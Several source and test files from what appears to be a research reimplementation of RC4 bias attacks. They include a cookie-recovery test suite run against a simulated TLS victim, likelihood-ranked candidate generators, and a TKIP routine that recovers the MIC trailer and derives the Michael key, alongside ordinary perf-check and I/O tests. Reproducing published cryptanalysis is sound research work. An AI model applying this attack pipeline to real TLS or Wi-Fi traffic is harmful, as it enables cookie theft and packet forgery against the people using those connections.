TEST(LazyEnumeratorTest, EmitsEveryCandidateExactlyOnceOnTinySpace) {
  // 2 positions: full space is 65536 candidates; drain it all.
  const auto tables = RandomTables(2, 7);
  LazyCandidateEnumerator enumerator(tables);
  std::map<Bytes, int> seen;
  double prev = 1e300;
  for (int i = 0; i < 65536; ++i) {
    const Candidate c = enumerator.Next();
    EXPECT_LE(c.log_likelihood, prev + 1e-12);
    prev = c.log_likelihood;
    EXPECT_EQ(++seen[c.plaintext], 1);
  }
  EXPECT_EQ(seen.size(), 65536u);
}

TEST(LazyEnumeratorTest, ReportsExhaustionAfterFullSpace) {
  const auto tables = RandomTables(1, 8);
  LazyCandidateEnumerator enumerator(tables);
  for (int i = 0; i < 256; ++i) {
    EXPECT_FALSE(enumerator.Exhausted()) << "i=" << i;
    enumerator.Next();
  }
  EXPECT_TRUE(enumerator.Exhausted());
}

DoubleByteTables RandomTransitions(size_t count, uint64_t seed) {
  Xoshiro256 rng(seed);
  DoubleByteTables tables(count, std::vector<double>(65536));
  for (auto& table : tables) {
    for (auto& v : table) {
      v = -rng.UnitDouble() * 5.0;
    }
  }
  return tables;
}

// Exhaustive N-best over a restricted alphabet for Algorithm 2 validation.
std::vector<Candidate> BruteForceDouble(const DoubleByteTables& transitions,
                                        uint8_t m1, uint8_t m_last,
                                        std::span<const uint8_t> alphabet, size_t n) {
  const size_t inner = transitions.size() - 1;
  std::vector<Candidate> all;
  std::vector<size_t> idx(inner, 0);
  while (true) {
    Candidate c;
    c.plaintext.resize(inner);
    for (size_t t = 0; t < inner; ++t) {
      c.plaintext[t] = alphabet[idx[t]];
    }
    c.log_likelihood =
        transitions[0][static_cast<size_t>(m1) * 256 + c.plaintext[0]];
    for (size_t t = 1; t < inner; ++t) {
      c.log_likelihood +=
          transitions[t][static_cast<size_t>(c.plaintext[t - 1]) * 256 +
                         c.plaintext[t]];
    }
    c.log_likelihood +=
        transitions[inner][static_cast<size_t>(c.plaintext[inner - 1]) * 256 + m_last];
    all.push_back(c);
    size_t pos = 0;
    while (pos < inner && ++idx[pos] == alphabet.size()) {
      idx[pos] = 0;
      ++pos;
    }
    if (pos == inner) {
      break;
    }
  }
  std::stable_sort(all.begin(), all.end(), [](const Candidate& a, const Candidate& b) {
    return a.log_likelihood > b.log_likelihood;
  });
  all.resize(std::min(all.size(), n));
  return all;
}

TEST(Algorithm2Test, MatchesExhaustiveNBest) {
  const std::vector<uint8_t> alphabet = {'a', 'b', 'c', 'd', 'e'};
  const auto transitions = RandomTransitions(4, 8);  // 3 unknown bytes
  const size_t n = 60;
  const auto got = GenerateCandidatesDouble(transitions, 'X', 'Y', n, alphabet);
  const auto expected = BruteForceDouble(transitions, 'X', 'Y', alphabet, n);
  ASSERT_EQ(got.size(), n);
  for (size_t i = 0; i < n; ++i) {
    ASSERT_NEAR(got[i].log_likelihood, expected[i].log_likelihood, 1e-9) << i;
  }
}

TEST(Algorithm2Test, SortedAndUnique) {
  const std::vector<uint8_t> alphabet = {'0', '1', '2', '3', '4', '5', '6', '7'};
  const auto transitions = RandomTransitions(5, 9);
  const auto candidates = GenerateCandidatesDouble(transitions, 'A', 'B', 400, alphabet);
  std::map<Bytes, int> seen;
  for (size_t i = 0; i < candidates.size(); ++i) {
    if (i > 0) {
      EXPECT_GE(candidates[i - 1].log_likelihood, candidates[i].log_likelihood);
    }
    EXPECT_EQ(++seen[candidates[i].plaintext], 1);
  }
}

TEST(Algorithm2Test, RespectsAlphabetRestriction) {
  const std::vector<uint8_t> alphabet = {'x', 'y'};
  const auto transitions = RandomTransitions(6, 10);
  for (const auto& c : GenerateCandidatesDouble(transitions, 'M', 'N', 50, alphabet)) {
    for (uint8_t b : c.plaintext) {
      EXPECT_TRUE(b == 'x' || b == 'y');
    }
  }
}

TEST(Algorithm2Test, ExhaustsSmallSpace) {
  const std::vector<uint8_t> alphabet = {'p', 'q', 'r'};
  const auto transitions = RandomTransitions(3, 11);  // 2 unknown bytes, 9 total
  const auto candidates =
      GenerateCandidatesDouble(transitions, 'U', 'V', 100, alphabet);
  EXPECT_EQ(candidates.size(), 9u);
}

TEST(Algorithm2Test, ScoresMatchPlaintextEvaluation) {
  const std::vector<uint8_t> alphabet = {'a', 'z', '9'};
  const auto transitions = RandomTransitions(4, 12);
  for (const auto& c : GenerateCandidatesDouble(transitions, 'H', 'T', 20, alphabet)) {
    double score = transitions[0][static_cast<size_t>('H') * 256 + c.plaintext[0]];
    for (size_t t = 1; t < c.plaintext.size(); ++t) {
      score += transitions[t][static_cast<size_t>(c.plaintext[t - 1]) * 256 +
                              c.plaintext[t]];
    }
    score += transitions[3][static_cast<size_t>(c.plaintext.back()) * 256 + 'T'];
    EXPECT_NEAR(score, c.log_likelihood, 1e-9);
  }
}

}  // namespace
}  // namespace rc4b
