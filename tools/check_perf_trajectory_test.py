#!/usr/bin/env python3
"""Unit tests for check_perf_trajectory.py: the comparability matrix (host x
kernel x lane width), the >threshold drop failure, cross-host downgrade to
warning, the dispatch-change notices (kernel and resolved width), and the
baseline-only path."""

import importlib.util
import io
import json
import os
import sys
import tempfile
import unittest
from contextlib import redirect_stdout

TOOLS_DIR = os.path.dirname(os.path.abspath(__file__))


def load_module():
    spec = importlib.util.spec_from_file_location(
        "check_perf_trajectory",
        os.path.join(TOOLS_DIR, "check_perf_trajectory.py"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


CPT = load_module()


def bench(host="perfbox", kernel="avx2x8", rate=1000.0, extra=None):
    point = {
        "host": host,
        "kernel": kernel,
        "engine_ks_per_s": rate,
        "keys_total": 123456,  # non-rate: never gates
    }
    if extra:
        point.update(extra)
    return point


class CompareFileTest(unittest.TestCase):
    def compare(self, prev, cur, threshold=0.15, allow_cross_host=False):
        out = io.StringIO()
        with redirect_stdout(out):
            failures = CPT.compare_file("BENCH_t.json", prev, cur, threshold,
                                        allow_cross_host)
        return failures, out.getvalue()

    def test_flat_rate_passes(self):
        failures, output = self.compare(bench(), bench())
        self.assertEqual(failures, 0)
        self.assertNotIn("::error::", output)

    def test_small_drop_within_threshold_passes(self):
        failures, _ = self.compare(bench(rate=1000.0), bench(rate=900.0))
        self.assertEqual(failures, 0)

    def test_large_drop_fails_with_error_annotation(self):
        failures, output = self.compare(bench(rate=1000.0), bench(rate=600.0))
        self.assertEqual(failures, 1)
        self.assertIn("::error::", output)
        self.assertIn("engine_ks_per_s", output)
        self.assertIn("40.0%", output)

    def test_improvement_never_fails(self):
        failures, _ = self.compare(bench(rate=1000.0), bench(rate=5000.0))
        self.assertEqual(failures, 0)

    def test_threshold_is_configurable(self):
        failures, _ = self.compare(bench(rate=1000.0), bench(rate=900.0),
                                   threshold=0.05)
        self.assertEqual(failures, 1)

    def test_cross_host_without_flag_is_an_error(self):
        failures, output = self.compare(bench(host="a"), bench(host="b"))
        self.assertEqual(failures, 1)
        self.assertIn("host changed", output)
        self.assertIn("--allow-cross-host", output)

    def test_cross_host_with_flag_downgrades_drop_to_warning(self):
        failures, output = self.compare(
            bench(host="a", rate=1000.0), bench(host="b", rate=100.0),
            allow_cross_host=True)
        self.assertEqual(failures, 0)
        self.assertIn("::warning::", output)
        self.assertIn("cross-host", output)
        self.assertNotIn("::error::", output)

    def test_kernel_change_is_a_notice_not_a_regression(self):
        failures, output = self.compare(
            bench(kernel="avx2x8", rate=1000.0),
            bench(kernel="scalar", rate=10.0))
        self.assertEqual(failures, 0)
        self.assertIn("::notice::", output)
        self.assertIn("dispatched kernel changed", output)

    def test_width_change_on_same_kernel_is_a_notice_not_a_regression(self):
        # Same kernel at a different resolved lane width (e.g. a retuned
        # preferred width) is a dispatch change: notice + skip, never a
        # regression — even when the rate cratered.
        failures, output = self.compare(
            bench(rate=1000.0, extra={"interleave": 32}),
            bench(rate=10.0, extra={"interleave": 64}))
        self.assertEqual(failures, 0)
        self.assertIn("::notice::", output)
        self.assertIn("resolved lane width changed", output)
        self.assertIn("32 -> 64", output)

    def test_same_width_still_compares(self):
        failures, _ = self.compare(
            bench(rate=1000.0, extra={"interleave": 64}),
            bench(rate=100.0, extra={"interleave": 64}))
        self.assertEqual(failures, 1)

    def test_missing_width_field_still_compares(self):
        # Pre-width-field trajectory points (or benches that never record
        # it) keep gating on kernel+host alone.
        failures, _ = self.compare(
            bench(rate=1000.0), bench(rate=100.0, extra={"interleave": 64}))
        self.assertEqual(failures, 1)

    def test_missing_kernel_field_still_compares(self):
        prev = {"host": "h", "engine_ks_per_s": 1000.0}
        cur = {"host": "h", "engine_ks_per_s": 100.0}
        failures, _ = self.compare(prev, cur)
        self.assertEqual(failures, 1)

    def test_non_rate_metrics_never_gate(self):
        prev = bench(extra={"keys_total": 1000000})
        cur = bench(extra={"keys_total": 1})
        failures, _ = self.compare(prev, cur)
        self.assertEqual(failures, 0)

    def test_zero_previous_rate_is_skipped(self):
        failures, _ = self.compare(bench(rate=0.0), bench(rate=0.0))
        self.assertEqual(failures, 0)

    def test_missing_current_metric_is_skipped(self):
        prev = bench()
        cur = bench()
        del cur["engine_ks_per_s"]
        failures, _ = self.compare(prev, cur)
        self.assertEqual(failures, 0)


class RateMetricTest(unittest.TestCase):
    def test_rate_suffixes(self):
        for key in ("engine_ks_per_s", "requests_per_second",
                    "sim_trials_per_s", "merge_items_per_s"):
            self.assertTrue(CPT.is_rate_metric(key), key)

    def test_non_rate_keys(self):
        for key in ("keys_total", "host", "kernel", "elapsed_s", "workers"):
            self.assertFalse(CPT.is_rate_metric(key), key)


class MainTest(unittest.TestCase):
    def run_main(self, prev_files, cur_files, *extra_args):
        with tempfile.TemporaryDirectory() as tmp:
            prev_dir = os.path.join(tmp, "prev")
            cur_dir = os.path.join(tmp, "cur")
            os.makedirs(prev_dir)
            os.makedirs(cur_dir)
            for name, content in prev_files.items():
                with open(os.path.join(prev_dir, name), "w") as fh:
                    json.dump(content, fh)
            for name, content in cur_files.items():
                with open(os.path.join(cur_dir, name), "w") as fh:
                    json.dump(content, fh)
            argv = ["check_perf_trajectory.py", "--previous", prev_dir,
                    "--current", cur_dir, *extra_args]
            out = io.StringIO()
            old_argv = sys.argv
            sys.argv = argv
            try:
                with redirect_stdout(out):
                    code = CPT.main()
            finally:
                sys.argv = old_argv
            return code, out.getvalue()

    def test_no_previous_records_baseline_and_passes(self):
        code, output = self.run_main({}, {"BENCH_a.json": bench()})
        self.assertEqual(code, 0)
        self.assertIn("recording baseline only", output)

    def test_no_current_is_an_error(self):
        code, output = self.run_main({"BENCH_a.json": bench()}, {})
        self.assertEqual(code, 1)
        self.assertIn("no BENCH_*.json", output)

    def test_regression_fails_end_to_end(self):
        code, output = self.run_main(
            {"BENCH_a.json": bench(rate=1000.0)},
            {"BENCH_a.json": bench(rate=100.0)})
        self.assertEqual(code, 1)
        self.assertIn("1 regression(s)", output)

    def test_matching_runs_pass_end_to_end(self):
        code, output = self.run_main(
            {"BENCH_a.json": bench(), "BENCH_b.json": bench(rate=50.0)},
            {"BENCH_a.json": bench(), "BENCH_b.json": bench(rate=55.0)})
        self.assertEqual(code, 0)
        self.assertIn("compared 2 bench file(s)", output)

    def test_file_missing_now_warns_but_passes(self):
        code, output = self.run_main(
            {"BENCH_gone.json": bench(), "BENCH_a.json": bench()},
            {"BENCH_a.json": bench()})
        self.assertEqual(code, 0)
        self.assertIn("missing now", output)

    def test_unreadable_current_json_warns(self):
        with tempfile.TemporaryDirectory() as tmp:
            with open(os.path.join(tmp, "BENCH_bad.json"), "w") as fh:
                fh.write("{not json")
            out = io.StringIO()
            with redirect_stdout(out):
                files = CPT.load_bench_files(tmp)
            self.assertEqual(files, {})
            self.assertIn("::warning::", out.getvalue())


if __name__ == "__main__":
    unittest.main()
