#include <cmath>
#include <cctype>
#include <set>
#include "src/tls/cookie_attack.h"

#include <gtest/gtest.h>

#include "src/common/rng.h"
#include "src/core/likelihood.h"
#include "src/tls/session.h"

namespace rc4b {
namespace {

CookieAttackLayout TestLayout(size_t cookie_offset) {
  CookieAttackLayout layout;
  layout.cookie_offset = cookie_offset;
  layout.cookie_length = 16;
  layout.request_size = 492;
  layout.max_gap = 128;
  return layout;
}

Bytes KnownRequest(size_t cookie_offset) {
  Xoshiro256 rng(11);
  Bytes request(492);
  for (auto& b : request) {
    b = static_cast<uint8_t>('a' + rng.Below(26));
  }
  (void)cookie_offset;
  return request;
}

TEST(CookieStatsTest, PairCountAndRequestCounting) {
  const auto layout = TestLayout(100);
  CookieCaptureStats stats(layout, KnownRequest(100));
  EXPECT_EQ(stats.pair_count(), 17u);
  EXPECT_EQ(stats.requests(), 0u);
  Bytes ciphertext(492, 0);
  stats.AddRequest(ciphertext);
  EXPECT_EQ(stats.requests(), 1u);
}

TEST(CookieStatsTest, AddRequestRejectsShortCiphertext) {
  // Regression: a short ciphertext used to be assert-only and read out of
  // bounds in Release builds; it must now be rejected without recording.
  const auto layout = TestLayout(100);
  CookieCaptureStats stats(layout, KnownRequest(100));
  const Bytes short_ciphertext(layout.request_size - 1, 0);
  EXPECT_FALSE(stats.AddRequest(short_ciphertext));
  EXPECT_EQ(stats.requests(), 0u);
  const Bytes exact(layout.request_size, 0);
  EXPECT_TRUE(stats.AddRequest(exact));
  EXPECT_EQ(stats.requests(), 1u);
}

TEST(CookieStatsTest, FmCountsAccumulateCiphertextPairs) {
  const auto layout = TestLayout(100);
  CookieCaptureStats stats(layout, KnownRequest(100));
  Bytes ciphertext(492, 0);
  ciphertext[99] = 0x12;   // first byte of pair 0 (m1 position, offset-1)
  ciphertext[100] = 0x34;  // first cookie byte
  stats.AddRequest(ciphertext);
  EXPECT_EQ(stats.FmCounts(0)[0x12 * 256 + 0x34], 1u);
  // Pair 16 covers (last cookie byte, mL).
  EXPECT_EQ(stats.FmCounts(16)[0], 1u);
}

TEST(CookieStatsTest, AbsabScoresRespondToMatchingDifferentials) {
  // If the ciphertext differential between the unknown pair and a known pair
  // is zero, the score table gains weight at the known plaintext pair — the
  // ABSAB mechanism in differential form.
  const auto layout = TestLayout(100);
  const Bytes request = KnownRequest(100);
  CookieCaptureStats stats(layout, request);
  Bytes ciphertext(492, 0);  // all-zero ciphertext: every differential is 0
  stats.AddRequest(ciphertext);
  const auto& scores = stats.AbsabScores(0);
  // Scores must be non-negative and concentrated at cells equal to some
  // known pair value; the cell for the known pair after the cookie at gap 0:
  const size_t pos = 99;  // pair 0 first byte
  const size_t ref = pos + 2;  // gap 0 known pair would be inside the cookie
  (void)ref;
  double total = 0.0;
  for (double s : scores) {
    total += s;
  }
  EXPECT_GT(total, 0.0);
}

TEST(CookieStatsTest, GapsExcludeCookieOverlap) {
  // With the cookie at offset 100 and length 16, a reference pair for the
  // first unknown pair (positions 99-100) at gap g "after" sits at 101 + g;
  // those inside [100, 116) must be excluded. We can't inspect gap_refs_
  // directly, but an all-zero ciphertext adds weight only at known-pair
  // cells; ensure no weight lands at impossible cells by checking the score
  // table total matches a hand-computed count of usable references.
  const auto layout = TestLayout(100);
  const Bytes request = KnownRequest(100);
  CookieCaptureStats stats(layout, request);
  Bytes ciphertext(492, 0);
  stats.AddRequest(ciphertext);

  // Count usable references for pair 0 by the same rule the header documents.
  size_t usable = 0;
  const size_t pos = layout.cookie_offset - 1;  // 99
  auto known = [&](size_t p) {
    return p < layout.request_size &&
           (p < layout.cookie_offset || p >= layout.cookie_offset + layout.cookie_length);
  };
  for (size_t gap = 0; gap <= layout.max_gap; ++gap) {
    if (known(pos + gap + 2) && known(pos + gap + 3)) {
      ++usable;
    }
    if (pos >= gap + 2 && known(pos - gap - 2) && known(pos - gap - 1)) {
      ++usable;
    }
  }
  // Each usable reference contributes exactly one (positive) table update.
  size_t nonzero_updates = 0;
  double total = 0.0;
  for (double s : stats.AbsabScores(0)) {
    if (s > 0.0) {
      total += s;
      ++nonzero_updates;
    }
  }
  EXPECT_LE(nonzero_updates, usable);  // collisions can merge cells
  EXPECT_GT(usable, 100u);             // both sides contribute many gaps
}

TEST(CookieAlphabetTest, SixtyFourUrlSafeCharacters) {
  const auto alphabet = CookieAlphabet64();
  EXPECT_EQ(alphabet.size(), 64u);
  std::set<uint8_t> unique(alphabet.begin(), alphabet.end());
  EXPECT_EQ(unique.size(), 64u);
  for (uint8_t c : alphabet) {
    EXPECT_TRUE(std::isalnum(c) || c == '-' || c == '_');
  }
}

TEST(BruteForceTest, FindsCookieWhenOracleMatches) {
  // Synthetic transitions that strongly prefer the true cookie.
  const auto alphabet = CookieAlphabet64();
  Xoshiro256 rng(21);
  Bytes truth(8);
  for (auto& b : truth) {
    b = alphabet[rng.Below(64)];
  }
  DoubleByteTables transitions(9, std::vector<double>(65536, 0.0));
  const uint8_t m1 = '=', m_last = ';';
  transitions[0][static_cast<size_t>(m1) * 256 + truth[0]] = 5.0;
  for (size_t t = 1; t < 8; ++t) {
    transitions[t][static_cast<size_t>(truth[t - 1]) * 256 + truth[t]] = 5.0;
  }
  transitions[8][static_cast<size_t>(truth[7]) * 256 + m_last] = 5.0;

  const auto result = BruteForceCookie(
      transitions, m1, m_last, alphabet, 100,
      [&](const Bytes& candidate) { return candidate == truth; });
  ASSERT_TRUE(result.success);
  EXPECT_EQ(result.cookie, truth);
  EXPECT_EQ(result.attempts, 1u);
}

TEST(BruteForceTest, ReportsFailureAfterBudget) {
  const auto alphabet = CookieAlphabet64();
  DoubleByteTables transitions(5, std::vector<double>(65536, 0.0));
  const auto result = BruteForceCookie(transitions, '=', ';', alphabet, 50,
                                       [](const Bytes&) { return false; });
  EXPECT_FALSE(result.success);
  EXPECT_EQ(result.attempts, 50u);
}

// End-to-end mechanics at reduced scale: a real TLS victim session, real
// capture, and a likelihood pipeline whose tables rank the true cookie above
// a random baseline. Paper-scale success rates are the Fig. 10 bench's job.
TEST(CookieAttackIntegrationTest, PipelineProducesFiniteOrderedTables) {
  Xoshiro256 rng(31);
  const auto alphabet = CookieAlphabet64();
  Bytes cookie(16);
  for (auto& b : cookie) {
    b = alphabet[rng.Below(64)];
  }
  HttpRequestTemplate tmpl;
  tmpl.total_size = 492;
  TlsVictimSession session(tmpl, cookie, 48, rng);

  CookieAttackLayout layout;
  layout.cookie_offset = session.CookieOffsetInRequest();
  layout.request_size = 492;
  layout.max_gap = 64;
  CookieCaptureStats stats(layout, session.RequestPlaintext());

  for (int k = 0; k < 2000; ++k) {
    const Bytes record = session.NextRequest();
    stats.AddRequest(std::span<const uint8_t>(record).subspan(kTlsRecordHeaderSize));
  }
  const auto tables =
      CookieTransitionTables(stats, session.CookieStreamPosition(0) % 256);
  ASSERT_EQ(tables.size(), 17u);
  for (const auto& table : tables) {
    for (double v : table) {
      ASSERT_TRUE(std::isfinite(v));
    }
  }
  // Generate candidates; list must be valid and sorted even at low signal.
  const uint8_t m1 = session.RequestPlaintext()[layout.cookie_offset - 1];
  const uint8_t m_last =
      session.RequestPlaintext()[layout.cookie_offset + layout.cookie_length];
  const auto candidates =
      GenerateCandidatesDouble(tables, m1, m_last, 50, alphabet);
  ASSERT_EQ(candidates.size(), 50u);
  for (size_t i = 1; i < candidates.size(); ++i) {
    EXPECT_GE(candidates[i - 1].log_likelihood, candidates[i].log_likelihood);
  }
}

}  // namespace
}  // namespace rc4b
