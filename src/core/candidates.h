// Plaintext candidate lists in decreasing likelihood (Sect. 4.4).
//
// Three generators are provided:
//   * Algorithm 1 of the paper: incremental N-best over single-byte
//     likelihoods, length by length.
//   * A lazy best-first enumerator over single-byte likelihoods. It yields
//     candidates one at a time in exactly the same order, with memory
//     proportional to the number of candidates popped — this is what the
//     TKIP attack uses to traverse a huge candidate space until a CRC match.
//   * Algorithm 2 of the paper: an N-best list-Viterbi decoder over
//     double-byte (Markov / HMM transition) likelihoods with known first and
//     last bytes and an optional restricted plaintext alphabet (the cookie
//     character-set optimization of Sect. 6.2).
#ifndef SRC_CORE_CANDIDATES_H_
#define SRC_CORE_CANDIDATES_H_

#include <cstdint>
#include <queue>
#include <span>
#include <vector>

#include "src/common/bytes.h"

namespace rc4b {

struct Candidate {
  Bytes plaintext;
  double log_likelihood = 0.0;
};

// Per-position single-byte log-likelihood tables: likelihoods[r][mu] for
// 0 <= r < L, 0 <= mu < 256.
using SingleByteTables = std::vector<std::vector<double>>;

// Algorithm 1: the N most likely plaintexts of length likelihoods.size().
std::vector<Candidate> GenerateCandidatesSingle(const SingleByteTables& likelihoods,
                                                size_t n);

// Lazy best-first enumeration of the same ordering.
class LazyCandidateEnumerator {
 public:
  explicit LazyCandidateEnumerator(const SingleByteTables& likelihoods);

  // Returns the next most likely candidate. Never exhausts before 256^L
  // candidates have been returned; callers must check Exhausted() first.
  Candidate Next();

  // True once all 256^L candidates have been returned: calling Next() again
  // would be invalid.
  bool Exhausted() const { return heap_.empty(); }

  uint64_t popped() const { return popped_; }

 private:
  struct Node {
    double score;
    std::vector<uint8_t> ranks;  // per-position index into the sorted table
    friend bool operator<(const Node& a, const Node& b) { return a.score < b.score; }
  };

  size_t length_;
  // sorted_[r][k] = (log-likelihood, byte value) of the k-th best value.
  std::vector<std::vector<std::pair<double, uint8_t>>> sorted_;
  std::priority_queue<Node> heap_;
  uint64_t popped_ = 0;
};

// Double-byte transition tables for Algorithm 2: transitions[t] is a 65536
// log-likelihood table for the pair (byte_t, byte_{t+1}) of the padded
// plaintext m1 || P || mL; t ranges over 0 .. L-2 where L = |P| + 2.
using DoubleByteTables = std::vector<std::vector<double>>;

// Algorithm 2: the N most likely plaintexts (inner bytes only, |P| bytes)
// given the known boundary bytes m1 and mL. `alphabet` restricts the inner
// byte values (empty = all 256).
std::vector<Candidate> GenerateCandidatesDouble(const DoubleByteTables& transitions,
                                                uint8_t m1, uint8_t m_last, size_t n,
                                                std::span<const uint8_t> alphabet = {});

}  // namespace rc4b

#endif  // SRC_CORE_CANDIDATES_H_
