#include "src/tkip/attack.h"

#include <cstdio>

#include "src/core/likelihood.h"
#include "src/crypto/crc32.h"
#include "src/recovery/engine.h"

namespace rc4b {

SingleByteTables TkipTrailerLikelihoods(const TkipCaptureStats& stats,
                                        const TkipTscModel& model) {
  // Load-bearing validation: a mismatched position range would index rows out
  // of bounds below, so it must hold in Release builds too. Loud, because an
  // empty result downstream looks like a legitimately failed attack.
  if (stats.first_position() != model.first_position() ||
      stats.last_position() != model.last_position()) {
    std::fprintf(stderr,
                 "TkipTrailerLikelihoods: stats positions [%zu, %zu] do not "
                 "match model positions [%zu, %zu]; returning empty tables\n",
                 stats.first_position(), stats.last_position(),
                 model.first_position(), model.last_position());
    return {};
  }
  const size_t positions = stats.position_count();
  SingleByteTables tables(positions, std::vector<double>(256, 0.0));
  double weights[256];
  for (size_t tsc1 = 0; tsc1 < 256; ++tsc1) {
    for (size_t p = 0; p < positions; ++p) {
      const size_t pos = stats.first_position() + p;
      const uint64_t* counts = stats.Row(static_cast<uint8_t>(tsc1), pos);
      for (size_t c = 0; c < 256; ++c) {
        weights[c] = static_cast<double>(counts[c]);
      }
      // lambda_pos[mu] += sum_c counts[c] * log_p[c ^ mu], one blocked
      // XOR-correlation per (tsc1, position) row — the per-checkpoint hot
      // loop of the TKIP simulations.
      XorCorrelate256(weights, model.LogRow(static_cast<uint8_t>(tsc1), pos),
                      tables[p].data());
    }
  }
  return tables;
}

bool TkipTrailerConsistent(std::span<const uint8_t> msdu,
                           std::span<const uint8_t> trailer) {
  if (trailer.size() != kTkipTrailerSize) {
    return false;
  }
  uint32_t state = Crc32Init();
  state = Crc32Update(state, msdu);
  state = Crc32Update(state, trailer.subspan(0, 8));
  const uint32_t crc = Crc32Final(state);
  return crc == LoadLe32(trailer.data() + 8);
}

TkipAttackResult RecoverTkipTrailer(std::span<const uint8_t> known_msdu,
                                    const SingleByteTables& likelihoods,
                                    uint64_t max_candidates,
                                    std::span<const uint8_t> true_trailer,
                                    const TkipPeer& peer) {
  TkipAttackResult result;
  if (likelihoods.size() != kTkipTrailerSize) {
    return result;
  }

  // Precompute the CRC state over the fixed MSDU once; each candidate only
  // folds in its 8 MIC bytes.
  uint32_t msdu_state = Crc32Init();
  msdu_state = Crc32Update(msdu_state, known_msdu);

  // The unified recovery loop (src/recovery/engine.h) with the TKIP
  // verification predicate: CRC-32(msdu || MIC) must equal the ICV.
  recovery::RecoveryOptions options;
  options.max_candidates = max_candidates;
  options.truth.assign(true_trailer.begin(), true_trailer.end());
  const recovery::RecoveryEngine engine(std::move(options));
  const auto recovered =
      engine.RecoverSingle(likelihoods, [&](const Bytes& trailer) {
        const std::span<const uint8_t> bytes(trailer);
        const uint32_t crc =
            Crc32Final(Crc32Update(msdu_state, bytes.subspan(0, 8)));
        return crc == LoadLe32(bytes.data() + 8);
      });
  result.found = recovered.found;
  result.correct = recovered.correct;
  result.candidates_tried = recovered.candidates_tried;
  if (!recovered.found) {
    return result;
  }
  result.trailer = recovered.plaintext;
  // Derive the Michael key from the recovered MIC (Sect. 5.3 / [44]):
  // MIC = Michael(key, DA || SA || prio || 0^3 || msdu), inverted exactly.
  const auto header = MichaelHeader(peer.da, peer.sa, peer.priority);
  Bytes authenticated(header.begin(), header.end());
  authenticated.insert(authenticated.end(), known_msdu.begin(),
                       known_msdu.end());
  result.mic_key = MichaelRecoverKey(
      authenticated, std::span<const uint8_t>(result.trailer).subspan(0, 8));
  return result;
}

}  // namespace rc4b
