#include "src/common/io.h"

#include <dirent.h>

#include <cstdio>
#include <fstream>
#include <string>
#include <string_view>

#include <gtest/gtest.h>

#include "src/tkip/tsc_model.h"

namespace rc4b {
namespace {

std::string TempPath(const char* name) {
  return std::string(::testing::TempDir()) + "/" + name;
}

bool FileExists(const std::string& path) {
  std::ifstream in(path);
  return in.good();
}

// True when any sibling of `path` is a leftover temp file for it (temp names
// are writer-unique — "<path>.tmp.<pid>.<n>" — so exact-name checks no
// longer work).
bool TempLeftoverExists(const std::string& path) {
  const size_t slash = path.find_last_of('/');
  const std::string dir = path.substr(0, slash);
  const std::string prefix = path.substr(slash + 1) + ".tmp.";
  ::DIR* handle = ::opendir(dir.c_str());
  if (handle == nullptr) {
    return false;
  }
  bool found = false;
  while (const struct ::dirent* entry = ::readdir(handle)) {
    if (std::string_view(entry->d_name).starts_with(prefix)) {
      found = true;
      break;
    }
  }
  ::closedir(handle);
  return found;
}

TEST(BinaryIoTest, U64RoundTrip) {
  const std::string path = TempPath("u64s.bin");
  {
    BinaryWriter writer(path);
    ASSERT_TRUE(writer.ok());
    writer.WriteU64(0);
    writer.WriteU64(0xdeadbeefcafef00dULL);
  }
  BinaryReader reader(path);
  ASSERT_TRUE(reader.ok());
  EXPECT_EQ(reader.ReadU64(), 0u);
  EXPECT_EQ(reader.ReadU64(), 0xdeadbeefcafef00dULL);
  EXPECT_TRUE(reader.ok());
  std::remove(path.c_str());
}

TEST(BinaryIoTest, ArrayRoundTrip) {
  const std::string path = TempPath("arrays.bin");
  const std::vector<double> doubles = {1.5, -2.25, 0.0, 1e300};
  const std::vector<uint64_t> ints = {1, 2, 3};
  {
    BinaryWriter writer(path);
    writer.WriteDoubles(doubles);
    writer.WriteU64s(ints);
    ASSERT_TRUE(writer.Commit().ok());
  }
  BinaryReader reader(path);
  std::vector<double> doubles_back(4);
  std::vector<uint64_t> ints_back(3);
  ASSERT_TRUE(reader.ReadDoubles(doubles_back));
  ASSERT_TRUE(reader.ReadU64s(ints_back));
  EXPECT_EQ(doubles_back, doubles);
  EXPECT_EQ(ints_back, ints);
  std::remove(path.c_str());
}

TEST(BinaryIoTest, ShortReadFailsWithContext) {
  const std::string path = TempPath("short.bin");
  {
    BinaryWriter writer(path);
    writer.WriteU64(42);
  }
  BinaryReader reader(path);
  reader.ReadU64();
  reader.ReadU64();  // past end
  EXPECT_FALSE(reader.ok());
  EXPECT_NE(reader.status().message().find(path), std::string::npos);
  EXPECT_NE(reader.status().message().find("end of file"), std::string::npos);
  std::remove(path.c_str());
}

TEST(BinaryIoTest, MissingFileReportsPathAndErrno) {
  BinaryReader reader("/nonexistent/path/file.bin");
  EXPECT_FALSE(reader.ok());
  EXPECT_NE(reader.status().message().find("/nonexistent/path/file.bin"),
            std::string::npos);
  EXPECT_NE(reader.status().message().find("No such file"), std::string::npos);
}

TEST(BinaryIoTest, CommitIsAtomic) {
  const std::string path = TempPath("atomic.bin");
  BinaryWriter writer(path);
  writer.WriteU64(7);
  // Before Commit() the destination must not exist — only the temp file does.
  EXPECT_FALSE(FileExists(path));
  EXPECT_TRUE(FileExists(writer.tmp_path()));
  EXPECT_TRUE(TempLeftoverExists(path));
  ASSERT_TRUE(writer.Commit().ok());
  EXPECT_TRUE(FileExists(path));
  EXPECT_FALSE(TempLeftoverExists(path));
  std::remove(path.c_str());
}

TEST(BinaryIoTest, FailedWriterNeverClobbersExistingFile) {
  const std::string path = TempPath("keep.bin");
  ASSERT_TRUE(WriteFileAtomic(path, "good").ok());
  {
    BinaryWriter writer("/nonexistent-dir/keep.bin");
    EXPECT_FALSE(writer.ok());
    writer.WriteU64(1);
    EXPECT_FALSE(writer.Commit().ok());
  }
  // Unrelated failure; the original file is untouched.
  std::ifstream in(path);
  std::string content;
  in >> content;
  EXPECT_EQ(content, "good");
  std::remove(path.c_str());
}

TEST(WriteFileAtomicTest, RoundTripAndNoTempLeftover) {
  const std::string path = TempPath("atomic.txt");
  ASSERT_TRUE(WriteFileAtomic(path, "{\"k\": 1}\n").ok());
  EXPECT_FALSE(TempLeftoverExists(path));
  std::ifstream in(path);
  std::string line;
  std::getline(in, line);
  EXPECT_EQ(line, "{\"k\": 1}");
  std::remove(path.c_str());
}

TEST(MakeDirsTest, CreatesNestedAndToleratesExisting) {
  const std::string base = TempPath("mkdirs");
  const std::string nested = base + "/a/b/c";
  ASSERT_TRUE(MakeDirs(nested).ok());
  EXPECT_TRUE(MakeDirs(nested).ok());  // idempotent
